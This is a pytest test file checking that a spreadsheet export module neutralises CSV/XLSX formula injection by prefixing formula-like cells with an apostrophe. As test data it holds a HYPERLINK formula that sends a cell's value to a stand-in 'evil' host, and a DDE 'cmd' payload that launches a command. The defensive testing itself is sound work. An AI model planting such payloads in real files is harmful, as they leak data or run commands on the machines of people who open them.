"""kernel.exports: no cell of an export is read as a formula (OWASP CSV injection)."""
import csv
import io

import pytest

from kernel import exports


@pytest.mark.parametrize("text", ["=1+1", "+86 138", "-2+3", "@SUM(A1)", "\t=x", "\r=x",
                                  '=HYPERLINK("http://evil/?"&A1,"x")'])
def test_cells_starting_like_a_formula_get_a_leading_apostrophe(text):
    assert exports.cell(text) == "'" + text


@pytest.mark.parametrize("text", ["张三", "阿依古丽·买买提", "a=b", "13800138000", "", "O'Brien"])
def test_ordinary_text_is_unchanged(text):
    assert exports.cell(text) == text


def test_numbers_and_none_are_written_as_they_are():
    assert exports.cell(-3) == -3
    assert exports.cell(78.5) == 78.5
    assert exports.cell(None) == ""


def test_writer_escapes_every_text_cell_and_reads_back():
    out = io.StringIO()
    w = exports.writer(out, lineterminator="\n")
    w.writerow(["序号", "姓名"])
    w.writerows([[1, "=cmd|' /C calc'!A0"], [2, "张三"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["序号", "姓名"], ["1", "'=cmd|' /C calc'!A0"], ["2", "张三"]]


def test_an_xlsx_row_keeps_a_typed_formula_as_text_and_empty_cells_empty():
    import io

    from openpyxl import Workbook, load_workbook

    from kernel.exports import xlsx_row
    wb = Workbook()
    wb.active.append(xlsx_row(['=HYPERLINK("http://evil/","点击")', None, "张三", 86]))
    out = io.BytesIO()
    wb.save(out)
    a, b, c, d = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert (a.data_type, a.value) == ("s", "'=HYPERLINK(\"http://evil/\",\"点击\")")
    assert (b.value, c.value, d.value) == (None, "张三", 86)


def test_a_workbook_holds_no_formula_from_user_data():
    from openpyxl import load_workbook

    data = exports.workbook("证书台账", ["序号", "姓名"], [[1, '=HYPERLINK("http://evil/","x")'],
                                                      [2, "张三"], [3, None]])
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == "证书台账"
    assert [c.value for c in ws[2]] == ["序号", "姓名"]
    assert ws["B3"].data_type == "s" and ws["B3"].value.startswith("'=")
    assert ws["B4"].value == "张三" and ws["A5"].value == 3 and ws["B5"].value is None
